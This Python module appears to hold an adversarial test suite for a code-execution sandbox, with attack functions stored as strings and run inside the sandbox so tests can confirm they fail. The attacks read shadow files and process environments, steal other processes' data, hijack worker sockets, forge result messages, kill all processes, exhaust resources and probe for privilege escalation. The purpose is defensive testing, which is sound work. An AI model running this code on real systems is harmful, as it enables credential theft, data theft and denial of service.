"""The uploaded code of the adversarial suite: each function attacks from inside a program
and returns what it managed, so that the tests can assert it managed nothing.

Not a test module. Every attack catches its own failures: an attack that fails must
fail harmlessly, and the report says how.
"""

from __future__ import annotations

ATTACKS = r'''
import ctypes, errno, glob, json, os, signal, socket, stat, struct, subprocess, sys, time

libc = ctypes.CDLL(None, use_errno=True)


def _error(call):
    try:
        call()
        return "ok"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
    except Exception as e:
        return type(e).__name__


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError as e:
        return errno.errorcode.get(e.errno, "error").encode()


def channel_takeover():
    """Find a Unix socket among this process's descriptors (every thread's table), and
    say ready on it, as a worker would, to be sent the next client's program."""
    report = {"sockets_listed": [], "sockets_reopened": [], "ready_sent_on": [], "messages_read": []}
    for path in glob.glob("/proc/self/task/*/fd/*") + glob.glob("/proc/[0-9]*/fd/*"):
        try:
            if not stat.S_ISSOCK(os.stat(path).st_mode):
                continue
        except OSError:
            continue
        report["sockets_listed"].append(path)
        try:
            os.close(os.open(path, os.O_RDWR))
            report["sockets_reopened"].append(path)
        except OSError:
            pass
    for fd in range(4096):
        try:
            kind = os.fstat(fd).st_mode
        except OSError:
            continue
        if not stat.S_ISSOCK(kind):
            continue
        s = socket.socket(fileno=os.dup(fd))
        try:
            s.setblocking(False)
            try:
                s.send(b'I{"type":"ready"}')
                report["ready_sent_on"].append(fd)
            except OSError:
                pass
            try:
                report["messages_read"].append(s.recv(65536).decode("utf-8", "replace"))
            except OSError:
                pass
        finally:
            s.close()
    return report


_SEEN_IN_HANDLER = {}


def _on_signal(signum):
    import threading
    _SEEN_IN_HANDLER["thread"] = threading.get_native_id()
    fds = []
    for fd in os.listdir("/proc/thread-self/fd"):
        try:
            fds.append(os.readlink(f"/proc/thread-self/fd/{fd}"))
        except OSError:  # the listing's own descriptor, closed since
            pass
    _SEEN_IN_HANDLER["fds"] = sorted(fds)


_HANDLER = ctypes.CFUNCTYPE(None, ctypes.c_int)(_on_signal)


def channel_by_signal():
    """Run a handler of its own on each other thread of the process (tgkill after
    installing it with ctypes): on the thread that holds the channel in a descriptor table
    of its own, the handler would see the channel."""
    import threading
    me = threading.get_native_id()
    others = [int(tid) for tid in os.listdir("/proc/self/task") if int(tid) != me]
    libc.signal(signal.SIGUSR2, _HANDLER)
    tgkill = {"x86_64": 234, "aarch64": 131}[os.uname().machine]
    ran_on = []
    for tid in others:
        _SEEN_IN_HANDLER.clear()
        libc.syscall(tgkill, os.getpid(), tid, signal.SIGUSR2)
        time.sleep(0.3)
        if _SEEN_IN_HANDLER.get("thread") == tid:
            ran_on.append({"tid": tid, **_SEEN_IN_HANDLER})
    return {"threads": len(others), "ran_on": ran_on}


def pass_huge_memfd():
    """A 64 GiB (sparse) memfd, passed as a result part on every Unix socket in reach."""
    fd = os.memfd_create("kcoral-blob")
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # the sandbox's file size limit stops this...
    try:
        os.ftruncate(fd, 64 << 30)
        size = "64 GiB"
    except OSError:
        os.ftruncate(fd, 1 << 20)  # ...so the message claims the 64 GiB instead
        size = "1 MiB"
    sent = []
    for target in range(4096):
        try:
            if not stat.S_ISSOCK(os.fstat(target).st_mode):
                continue
        except OSError:
            continue
        s = socket.socket(fileno=os.dup(target))
        try:
            # A whole result, its values after its object: only the part's size is a lie.
            s.sendmsg([b'I{"type":"result","continues":false,"stdout_bytes":0,"stdout_truncated":false,'
                       b'"stderr_bytes":0,"stderr_truncated":false,"elapsed_ms":0,"part_sizes":[68719476736],'
                       b'"retired":"","multi_stream":false,"part_blobs":[]}\n{}'],
                      [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", fd))])
            sent.append(target)
        except OSError:
            pass
        finally:
            s.close()
    return {"sent_on": sent, "size": size}


def read_secrets():
    """Secrets of the machine and of the server's processes."""
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    return {
        "shadow": _read("/etc/shadow").decode("utf-8", "replace"),
        "gshadow": _read("/etc/gshadow").decode("utf-8", "replace"),
        "pids": pids,
        "self": os.getpid(),
        "cmdlines": {str(p): _read(f"/proc/{p}/cmdline").replace(b"\0", b" ").decode("utf-8", "replace")
                     for p in pids},
        "init_environ": _read("/proc/1/environ").decode("utf-8", "replace"),
        "init_mem": _error(lambda: open("/proc/1/mem", "rb").read(1)),
    }


def steal_data(host_work_root):
    """Every memfd and every file in reach that is not this program's: other programs'
    cached blobs (memfd:kcoral-blob under /proc/*/fd), working directories, the server's
    work root."""
    found = []
    own = os.getcwd()
    for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/map_files/*"):
        try:
            target = os.readlink(path)
        except OSError:
            continue
        if "memfd:" in target:
            found.append(_read(path, 1 << 16).hex())
    system = ("/proc", "/sys", "/usr", "/etc", "/opt", "/dev", sys.prefix, sys.base_prefix, own)
    for root in ["/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/root", "/srv", "/mnt", host_work_root]:
        for directory, dirs, files in os.walk(root):
            if directory.startswith(system):
                dirs[:] = []
                continue
            for name in files:
                found.append(_read(os.path.join(directory, name), 1 << 12).hex())
    return found[:2000]


def call_the_server(host, port):
    """The server's own HTTP port, from inside; and a loopback of one's own."""
    report = {}
    for name, address in [("server", (host, port)), ("outside", ("1.1.1.1", 80))]:
        s = socket.socket()
        s.settimeout(2)
        report[name] = _error(lambda: s.connect(address))
        s.close()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    client = socket.create_connection(listener.getsockname(), timeout=2)
    served, _ = listener.accept()
    client.sendall(b"ping")
    report["own_loopback"] = served.recv(4).decode()
    report["interfaces"] = [name for _, name in socket.if_nameindex()]
    return report


def write_to_the_server_log(marker):
    """The marker on every descriptor that is open, and on the ones the streams were."""
    written = []
    for fd in range(4096):
        try:
            os.write(fd, (marker + "\n").encode())
            written.append(fd)
        except OSError:
            pass
    print(marker, flush=True)
    print(marker, file=sys.stderr, flush=True)
    return written


def leave_things_behind(marker):
    """Files in every writable place, and a daemon that detaches from the program."""
    left = []
    for directory in ["/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd(), "/"]:
        try:
            with open(os.path.join(directory, marker), "w") as f:
                f.write(marker)
            left.append(directory)
        except OSError:
            pass
    subprocess.Popen(["setsid", "sh", "-c", "sleep 300; exit 0", marker], start_new_session=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sh", ["sh", "-c", "sleep 300; exit 0", marker + "-daemon"])
        os._exit(0)
    os.wait()
    return left


def look_for_leftovers(marker):
    """What an earlier program left: files named `marker`, processes running it."""
    found = []
    for directory in ["/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd()]:
        if os.path.exists(os.path.join(directory, marker)):
            found.append(directory)
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        if marker.encode() in _read(f"/proc/{pid}/cmdline"):
            found.append("process " + pid)
    return found


def signal_everyone():
    """Kill every process in sight, the parent chain first, then everything (-1)."""
    if os.getuid() != 1000:  # outside the sandbox this would kill the whole machine
        return {"refused": "not sandboxed"}
    chain = []
    pid = os.getppid()
    while pid > 0:
        chain.append(pid)
        stat_text = _read(f"/proc/{pid}/stat").decode()
        pid = int(stat_text.rsplit(")", 1)[1].split()[1]) if ")" in stat_text else 0
    results = {str(p): _error(lambda p=p: os.kill(p, signal.SIGKILL)) for p in chain}
    for p in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if p != os.getpid():
            results.setdefault(str(p), _error(lambda p=p: os.kill(p, signal.SIGKILL)))
    results["-1"] = _error(lambda: os.kill(-1, signal.SIGKILL))
    time.sleep(0.5)
    return {"parent_chain": chain, "results": results}


def kill_own_group():
    os.killpg(0, signal.SIGKILL)
    time.sleep(10)


def exhaust(limit_bytes):
    """Memory, disk, processes: more of each than a program is allowed."""
    report = {}
    try:
        block = bytearray(limit_bytes + (1 << 30))
        report["memory"] = "allocated %d" % len(block)
    except MemoryError:
        report["memory"] = "MemoryError"
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails, not kills
    chunk = b"x" * (1 << 24)
    written = 0
    try:
        with open("/tmp/fill", "wb") as f:
            while written < (4 << 30):
                f.write(chunk)
                written += len(chunk)
    except OSError as e:
        report["disk_error"] = errno.errorcode.get(e.errno, str(e.errno))
    report["disk_written"] = written
    children = []
    try:
        for _ in range(1000):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            children.append(pid)
    except OSError as e:
        report["fork_error"] = errno.errorcode.get(e.errno, str(e.errno))
    report["forked"] = len(children)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return report


def privileged_calls():
    """What a benchmark never needs: debugging, mounting, namespaces, the kernel's own."""
    def failing(name, *args):
        libc.syscall.restype = ctypes.c_long
        result = getattr(libc, name)(*args)
        return "ok" if result == 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    status = _read("/proc/self/status").decode()
    fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
    return {
        "uid": os.getuid(),
        "euid": os.geteuid(),
        "groups": os.getgroups(),
        "cap_eff": fields["CapEff"].strip(),
        "cap_bnd": fields["CapBnd"].strip(),
        "no_new_privs": fields["NoNewPrivs"].strip(),
        "seccomp": fields["Seccomp"].strip(),
        "ptrace": failing("ptrace", 0, 0, 0, 0),  # PTRACE_TRACEME
        "unshare_user": failing("unshare", 0x10000000),
        "unshare_net": failing("unshare", 0x40000000),
        "mount": failing("mount", b"none", b"/tmp", b"tmpfs", 0, None),
        "chroot": failing("chroot", b"/tmp"),
        "setuid_root": _error(lambda: os.setuid(0)),
        "write_usr": _error(lambda: open("/usr/kcoral-test", "w")),
        "write_etc": _error(lambda: open("/etc/passwd", "a")),
        "write_python": _error(lambda: open(os.path.join(sys.prefix, "kcoral-test"), "w")),
        "devices": sorted(os.listdir("/dev")),
        "hostname": socket.gethostname(),
    }


def rewrite_inherited_memory():
    """Writes to every page of the anonymous memory this worker shares with the worker
    parent (the heap and the arenas, in huge pages there): MADV_POPULATE_WRITE breaks each
    page's sharing as a write does, leaving its bytes as they were. Then changes, in place,
    the text of a string the parent made (numpy's version). Reports both."""
    import numpy
    libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    written, failed = 0, []
    with open("/proc/self/maps") as maps:
        for line in maps:
            fields = line.split()
            if fields[1] == "rw-p" and fields[4] == "0" and (len(fields) == 5 or fields[5] == "[heap]"):
                start, end = (int(x, 16) for x in fields[0].split("-"))
                if libc.madvise(start, end - start, 23) == 0:  # MADV_POPULATE_WRITE
                    written += end - start
                else:
                    failed.append(errno.errorcode.get(ctypes.get_errno(), "?"))
    version = numpy.__version__
    before = version.encode().decode()  # a copy, not the object changed below
    data = id(version) + sys.getsizeof(version) - len(version) - 1  # a compact ASCII str's text
    ctypes.memmove(data, b"X", 1)
    return {"written": written, "failed": sorted(set(failed)), "before": before, "after": numpy.__version__}


def numpy_version():
    import numpy
    return numpy.__version__
'''

VICTIM = r'''
import hashlib, os, time

def victim(token, blob, seconds):
    with open("secret.txt", "w") as f:
        f.write(token)
    time.sleep(seconds)
    with open("secret.txt") as f:
        kept = f.read()
    return {"token": kept, "blob": hashlib.sha256(bytes(blob)).hexdigest()}
'''
